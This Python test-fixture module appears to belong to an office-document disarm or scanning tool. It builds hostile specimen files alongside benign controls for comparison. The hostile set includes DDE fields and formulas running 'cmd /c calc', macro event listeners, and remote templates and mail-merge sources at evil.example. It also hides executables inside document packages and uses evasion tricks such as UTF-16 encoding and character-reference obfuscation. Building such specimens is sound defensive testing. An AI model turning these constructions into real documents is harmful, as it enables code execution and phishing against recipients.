"""Documents that act, as a hacked partner could send them, and ordinary ones."""

from __future__ import annotations

import office_files
from documents import EXE, docx, instruction, odt, ooxml, word_main, zipped
from specimens import Specimen

O = "urn:oasis:names:tc:opendocument:xmlns"  # noqa: E741
FLAT_OPC = "http://schemas.microsoft.com/office/2006/xmlPackage"
W_2003 = "http://schemas.microsoft.com/office/word/2003/wordml"
SHEET_2003 = "urn:schemas-microsoft-com:office:spreadsheet"
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
WHY = {
    "a link needs a click": (
        "field link behind a switch", "field link behind a switch without value", "second target of a field link",
        "field link to ms-msdt", "link to ms-msdt", "link to a share", "link by formula", "VML with link",
    ),
    "a picture from elsewhere tells that a mail is read, no more": (
        "picture from elsewhere", "picture in slide from elsewhere",
    ),
    "menus and animations call what is not there": ("custom menus", "object by animation"),
    "a font shows letters": ("embedded font",),
    "data elsewhere is fetched when a person asks for it": ("book elsewhere", "publishing"),
}  # fmt: skip
OUTSIDE = {name: why for why, names in WHY.items() for name in names}
CHANGED = {
    "letter.odt": "OpenDocument has no disarm: a converter makes a PDF of it",
    "flat.fodt": "OpenDocument has no disarm",
    "letter in Word 2003 XML": "there is no disarm for flat XML",
    "sheet in XML": "there is no disarm for flat XML",
    "letter in Flat OPC": "there is no disarm for flat XML",
}


def _odf(
    content: str, *more: tuple[str, bytes], mime: bytes = b"application/vnd.oasis.opendocument.text", encoding="utf-8"
):
    body = f"<?xml version='1.0' encoding='{encoding}'?>{content}".encode(encoding)
    first = [("mimetype", mime)] if mime else []
    manifest = f"<m:manifest xmlns:m='{O}:manifest:1.0'/>".encode()
    return zipped([*first, ("content.xml", body), *more, ("META-INF/manifest.xml", manifest)])


def _content(inside: str, spaces: str = "") -> str:
    return f"<o:document-content xmlns:o='{O}:office:1.0' xmlns:x='http://www.w3.org/1999/xlink'{spaces}>{inside}</o:document-content>"


def _flat_opc(*parts: str) -> bytes:
    main = (
        f'<pkg:part pkg:name="/_rels/.rels" pkg:contentType="application/vnd.openxmlformats-package.relationships+xml">'
        f'<pkg:xmlData><Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="rId1" Type="{office_files.REL}/'
        'officeDocument" Target="word/document.xml"/></Relationships></pkg:xmlData></pkg:part>'
    )
    return (
        f'<?xml version="1.0"?><?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="{FLAT_OPC}">{main}'
        f"{''.join(parts)}</pkg:package>"
    ).encode()


def _part(name: str, content_type: str, data: str, kind: str = "xmlData") -> str:
    return f'<pkg:part pkg:name="{name}" pkg:contentType="{content_type}"><pkg:{kind}>{data}</pkg:{kind}></pkg:part>'


def _flat_document(body: str = "") -> str:
    text = f'<w:document xmlns:w="{office_files.WORD}"><w:body>{body}</w:body></w:document>'
    return _part("/word/document.xml", office_files.W + "document.main+xml", text)


def _word_2003(body: str, attributes: str = "") -> bytes:
    return (
        f"<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument xmlns:w='{W_2003}'{attributes}>"
        f"{body}</w:wordDocument>"
    ).encode()


def _sheet_2003(inside: str) -> bytes:
    return (
        f"<?xml version='1.0'?><?mso-application progid='Excel.Sheet'?><Workbook xmlns='{SHEET_2003}' "
        f"xmlns:ss='{SHEET_2003}' xmlns:x='urn:schemas-microsoft-com:office:excel'>{inside}</Workbook>"
    ).encode()


def _docx_by_default() -> bytes:
    main = word_main(instruction("DDEAUTO calc"))
    files = office_files.parts(ooxml("docx", main=main))
    files["word/document.bin"] = files.pop("word/document.xml")
    declared = office_files.W + "document.main+xml"
    for name in ("[Content_Types].xml", "_rels/.rels"):
        files[name] = files[name].replace(b"word/document.xml", b"word/document.bin")
    types = files["[Content_Types].xml"]
    begin = types.index(b"<Override")
    files["[Content_Types].xml"] = (
        types[:begin] + f'<Default Extension="bin" ContentType="{declared}"/></Types>'.encode()
    )
    return zipped(files)


def _docx_in_utf_16() -> bytes:
    text = "<w:p><w:r><w:t>" + "語" * 200_000 + "</w:t></w:r></w:p>"
    main = word_main(text + instruction("DDEAUTO calc")).decode().replace("UTF-8", "UTF-16")
    return ooxml("docx", main=main.encode("utf-16"))


def _settings(element: str, relationship: tuple[str, str, bool]) -> bytes:
    return office_files.word(
        "",
        parts={"word/settings.xml": office_files.settings_part(element)},
        relationships={"word/document.xml": [("settings", "settings.xml", False)], "word/settings.xml": [relationship]},
        overrides={"word/settings.xml": office_files.W + "settings+xml"},
    )


def acts():
    """Documents that do something when they are opened, or carry a program."""
    listener = "<s:event-listener xmlns:s='{}:script:1.0' x:href='{}'/>"
    macro = "vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"
    module = ("Basic/Standard/M.xml", b"<s:module xmlns:s='http://openoffice.org/2000/script'>Sub Main</s:module>")
    template = _part(
        "/word/_rels/settings.xml.rels",
        "application/vnd.openxmlformats-package.relationships+xml",
        f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="rId1" Type="{office_files.REL}/attachedTemplate" '
        'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
    )
    types = b"<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"
    odf = {
        "macro without mimetype": _odf(_content(""), module, mime=b""),
        "event listener under another prefix": _odf(_content(listener.format(O, macro))),
        "event listener in UTF-16": _odf(_content(listener.format(O, macro)), encoding="utf-16"),
        "macro address by a reference": _odf(_content(f"<o:x x:href='{macro.replace('vnd', '&#118;nd')}'/>")),
        "program on click": _odf(
            _content("<p:event-listener p:action='execute' x:href='file:///c:/x.exe' xmlns:p='urn:p'/>")
        ),
        "DDE source": _odf(_content(f"<q:dde-source xmlns:q='{O}:office:1.0' q:dde-application='cmd'/>")),
        "DDE formula": _odf(
            _content(
                '<t:table-cell xmlns:t="urn:t" t:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/>'
            ),
            mime=b"application/vnd.oasis.opendocument.spreadsheet",
        ),
        "remote section": _odf(_content("<t:section-source xmlns:t='urn:t' x:href='https://evil.example/x.odt'/>")),
        "program as a picture": _odf(_content(""), ("Pictures/x.exe", EXE)),
        "script as a thumbnail": _odf(_content(""), ("Thumbnails/x.js", b"WScript.Echo(1)")),
        "OpenOffice 1 event": _odf(
            "<o:document-content xmlns:o='http://openoffice.org/2000/office'>"
            "<s:event xmlns:s='http://openoffice.org/2000/script' s:macro-name='M'/></o:document-content>",
            mime=b"application/vnd.sun.xml.writer",
        ),
    }
    flat = {
        "Flat OPC with a remote template": _flat_opc(
            _flat_document(),
            _part(
                "/word/settings.xml", office_files.W + "settings+xml", f'<w:settings xmlns:w="{office_files.WORD}"/>'
            ),
            template,
        ),
        "Flat OPC with DDE": _flat_opc(_flat_document(instruction("DDEAUTO calc"))),
        "Flat OPC with macros": _flat_opc(
            _flat_document(),
            _part("/word/vbaProject.bin", "application/vnd.ms-office.vbaProject", "AAAA", "binaryData"),
        ),
        "Word 2003 with a remote template": _word_2003(
            "<w:docPr><w:attachedTemplate w:val='https://evil.example/t.dot'/></w:docPr>"
        ),
        "Word 2003 with DDE": _word_2003(f"<w:body>{instruction('DDE', 'AUTO calc')}</w:body>"),
        "Word 2003 with macros": _word_2003(
            "<w:docSuppData><w:binData w:name='editdata.mso'>AAAA</w:binData></w:docSuppData>"
        ),
        "Word 2003 that says it has macros": _word_2003("<w:body/>", " w:macrosPresent='&#121;es'"),
        "sheet in XML with DDE": _sheet_2003("<ss:Cell ss:Formula=\"=cmd&#124;'/c calc'!A1\"/>"),
        "sheet in XML with a DDE book": _sheet_2003("<x:SupBook><x:Path>cmd&#x7c;/c calc</x:Path></x:SupBook>"),
        "sheet in XML with a web query": _sheet_2003("<x:QueryTable><x:QuerySource/></x:QueryTable>"),
        "sheet in XML with an automatic name": _sheet_2003(
            '<ss:NamedRange ss:Name="Auto_Open" ss:RefersTo="=S!R1C1"/>'
        ),
        "flat OpenDocument with a listener": (
            f"<?xml version='1.0'?><of:document xmlns:of='{O}:office:1.0' xmlns:x='http://www.w3.org/1999/xlink'>"
            f"{listener.format(O, macro)}</of:document>"
        ).encode(),
        "namespace hidden by a reference": _word_2003("<w:docSuppData/>").replace(b"office/word", b"office&#47;word"),
        "InfoPath form": b"<?xml version='1.0'?><?mso-infoPathSolution href='https://evil.example/x.xsn'?><a/>",
    }
    link = f'<e-x:externalLink xmlns:e-x="{office_files.MAIN}"><e-x:ddeLink ddeService="cmd" ddeTopic="x"/></e-x:externalLink>'
    packages = {
        "program in a ZIP that poses as a document": zipped({"[Content_Types].xml": types, "evil.exe": EXE}),
        "script in a ZIP that poses as a document": zipped({"[content_types].XML": b"<x/>", "evil.js": b"alert(1)"}),
        "program beside a letter": ooxml("docx", {"word/media/a.exe": EXE}, main=word_main("")),
        "program as a part of known type": ooxml(
            "docx", {"word/a.png": EXE}, overrides={"word/a.png": "image/png"}, main=word_main("")
        ),
        "script under the name of a part": ooxml(
            "docx", {"word/a.hta": b"<a/>"}, overrides={"word/a.hta": "application/xml"}, main=word_main("")
        ),
        "two documents behind each other": zipped({"evil.exe": EXE}) + docx(),
        "main part by default type": _docx_by_default(),
        "field in UTF-16 behind Japanese": _docx_in_utf_16(),
        "DDE link under another prefix": office_files.workbook(
            "",
            parts={"xl/externalLinks/externalLink1.xml": link.encode()},
            relationships={"more": [("externalLink", "externalLinks/externalLink1.xml", False)]},
            overrides={"xl/externalLinks/externalLink1.xml": office_files.S + "externalLink+xml"},
        ),
        "program on click by a reference": office_files.slide(
            click='<a:hlinkClick r:id="" action="ppaction&#58;//program"/>'
        ),
        "program on click with a link": office_files.slide(
            click='<a:hlinkClick r:id="rId1" action="ppaction://program"/>',
            relationships=[("hyperlink", "file:///c:/windows/calc.exe", True)],
        ),
        "source of a mail merge": _settings(
            '<w:mailMerge><w:dataSource r:id="rId1"/></w:mailMerge>',
            ("mailMergeSource", "https://evil.example/x", True),
        ),
        "template on a share": _settings(
            '<w:attachedTemplate r:id="rId1"/>', ("attachedTemplate", "file:///\\\\evil\\t.dotm", True)
        ),
        "picture on a share": office_files.slide(relationships=[("image", "file://evil/x.png", True)]),
    }
    threats = {name: made[0] for name, made in office_files.THREATS.items()}
    return {name: Specimen(content, "a.bin") for name, content in {**threats, **odf, **flat, **packages}.items()}


def ordinary():
    """Documents without anything that acts."""
    code = 'HYPERLINK "https://example.com/" \\o "tip"'
    return {
        name: Specimen(content, name)
        for name, content in {
            "letter.docx": office_files.word("<w:p><w:r><w:t>a letter about DDEAUTO and mailMerge</w:t></w:r></w:p>"),
            "sheet.xlsx": office_files.workbook('<c r="A1"><v>1</v></c>'),
            "talk.pptx": office_files.slide(),
            "printer.xlsx": office_files.workbook(
                "",
                parts={"xl/printerSettings/p1.bin": bytes(200)},
                relationships={
                    "xl/worksheets/sheet1.xml": [("printerSettings", "../printerSettings/p1.bin", False)],
                },
                overrides={"xl/printerSettings/p1.bin": office_files.S + "printerSettings"},
            ),
            "links.docx": office_files.word(instruction(code) + instruction("PAGE \\* Arabic")),
            "formulas.xlsx": office_files.workbook('<c r="A1"><f>SUM(B1:B9)&amp;"a|b"</f><v>1</v></c>'),
            "letter.odt": odt(),
            "flat.fodt": f"<?xml version='1.0'?><office:document xmlns:office='{O}:office:1.0'/>".encode(),
            "letter in Word 2003 XML": _word_2003("<w:body><w:p><w:r><w:t>a</w:t></w:r></w:p></w:body>"),
            "sheet in XML": _sheet_2003('<ss:Cell ss:Formula="=SUM(R1C1:R2C1)"><ss:Data>a|b</ss:Data></ss:Cell>'),
            "letter in Flat OPC": _flat_opc(_flat_document("<w:p/>")),
        }.items()
    }
